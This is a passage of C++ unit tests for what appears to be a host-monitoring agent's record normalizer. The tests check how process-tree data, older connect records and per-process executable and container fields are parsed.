	raw.pid_tree.pid[2] = 555;
	std::memcpy(raw.pid_tree.comm[2], "ghost", 6);
	std::memcpy(rec.data(), &raw, sizeof(raw));
	const std::string again = normalize(n, rec, 2);
	ParsedLine second(again);
	CHECK(second.pid_tree() == first.pid_tree());
	CHECK(again.find("ghost") == std::string::npos);
	CHECK(again.find("stale") == std::string::npos);
	// A depth past the bound (no producer writes one) is cut to the bound.
	raw.pid_tree.depth = 200;
	std::memcpy(rec.data(), &raw, sizeof(raw));
	ParsedLine third(normalize(n, rec, 3));
	CHECK(third.pid_tree().size() == SMITH_PID_TREE_MAX);
}

TEST_CASE("pid_tree: a record from a producer without one has an empty tree, flagged as cut", "[unit]")
{
	Normalizer n(test_host());
	ConnectSpec c;
	c.hdr.task.pid = kNoSuchPid;
	std::vector<std::byte> rec = build_connect(c);
	// The connect record as it was before pid_tree was appended to its fixed part.
	rec.resize(sizeof(smith_connect) - sizeof(smith_pid_tree));
	smith_rec_hdr h;
	std::memcpy(&h, rec.data(), sizeof(h));
	h.size = static_cast<uint32_t>(rec.size());
	h.fixed = static_cast<uint16_t>(rec.size());
	std::memcpy(rec.data(), &h, sizeof(h));
	ParsedLine p(normalize(n, rec));
	CHECK(p.pid_tree().empty());
	CHECK(p.boolean("pid_tree_truncated") == true);
	CHECK(p.str("daddr_source") == "user");
}

TEST_CASE("many processes by turns keep their own exe and container", "[unit]")
{
	// More processes than there are slots for rendered fragments, so that they take each other's.
	Normalizer n(test_host());
	constexpr uint32_t kProcesses = 3000;
	const auto exe_of = [](uint32_t i) { return "/opt/app/bin-" + std::to_string(i); };
	for (uint32_t i = 0; i < kProcesses; ++i) {
		ExecSpec e;
		e.hdr.task.pid = kNoSuchPid - i;
		e.hdr.task.start_time = 1000 + i;
		e.exe = exe_of(i);
		e.cgroup = i % 2 ? "docker-" + kCid + ".scope" : "session-1.scope";
		normalize(n, build_execve(e));
	}
	for (int round = 0; round < 2; ++round)
		for (uint32_t i = 0; i < kProcesses; i += 1 + round) {
			ConnectSpec c;
			c.hdr.task.pid = kNoSuchPid - i;
			c.hdr.task.start_time = 1000 + i;
			c.inet = inet4(6, {10, 0, 0, 1}, 1, {10, 0, 0, 2}, 2);
			ParsedLine p(normalize(n, build_connect(c)));
			CHECK(p.i64("pid") == kNoSuchPid - i);
			CHECK(p.str("exe") == exe_of(i));
			CHECK(p.str("container_id") == (i % 2 ? kCid : ""));
		}
}
